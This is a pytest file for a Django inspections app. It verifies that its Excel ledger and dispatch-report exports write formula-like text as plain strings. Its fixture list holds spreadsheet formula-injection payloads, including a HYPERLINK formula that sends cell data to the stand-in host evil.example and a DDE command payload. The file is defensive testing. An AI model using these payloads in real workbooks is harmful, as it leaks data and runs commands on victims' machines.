"""Every workbook the product writes keeps text as text: a finding that starts with "=" is never a formula."""

import re
import zipfile
from datetime import date
from io import BytesIO

import openpyxl
import pytest
from helpers_ledger import at, make_ledger

from inspections.ledger.export import write_ledger
from inspections.reports.figures import dispatch_figures
from inspections.reports.xlsx import write_dispatch_xlsx
from inspections.selectors import task_filterset

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&D5,"x")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_ledger():
    with at(date(2026, 5, 1)):
        ledger = make_ledger()
        central = ledger.round(name='=HYPERLINK("http://evil.example/","轮次")')
        tasks = [ledger.task(central, date(2026, 5, 20), summary=text) for text in HOSTILE]
    return ledger, tasks


def _texts(wb) -> dict[str, object]:
    """Every cell holding one of the hostile strings, by value → the cell."""
    found = {}
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    found[cell.value] = cell
    return found


def _assert_text_only(data: bytes) -> None:
    wb = openpyxl.load_workbook(BytesIO(data))
    found = _texts(wb)
    assert set(found) == set(HOSTILE), f"missing as text: {set(HOSTILE) - set(found)}"
    for value, cell in found.items():
        assert cell.data_type == "s", (value, cell.data_type)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), f"formula element in {name}"


def test_ledger_export_writes_formula_like_text_as_text(hostile_ledger):
    ledger, _tasks = hostile_ledger
    buffer = BytesIO()
    with at(date(2026, 6, 1)):
        write_ledger(task_filterset(user=ledger.bureau, filters=None).qs, buffer, title="=1+1")
    _assert_text_only(buffer.getvalue())


def test_dispatch_report_writes_formula_like_text_as_text(hostile_ledger, tmp_path):
    _ledger, _tasks = hostile_ledger
    with at(date(2026, 6, 1)):
        figures = dispatch_figures(date(2026, 5, 31))  # every task is overdue: each summary is listed
        path = write_dispatch_xlsx(figures, "=1+1 通报", tmp_path / "report.xlsx")
    data = path.read_bytes()
    _assert_text_only(data)
    summary = openpyxl.load_workbook(BytesIO(data))["总体情况"]
    assert summary["A3"].value == "=1+1 通报" and summary["A3"].data_type == "s"
